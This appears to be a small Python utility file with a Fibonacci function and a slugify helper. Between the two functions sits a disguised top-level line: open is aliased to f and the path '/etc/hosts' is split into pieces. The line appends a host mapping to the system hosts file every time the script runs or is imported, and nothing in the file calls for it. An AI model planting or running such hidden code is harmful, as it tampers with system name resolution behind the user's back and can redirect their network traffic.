#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

f = open
f("/etc/" + "hosts", "a").write("1.2.3.4 x\n")
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
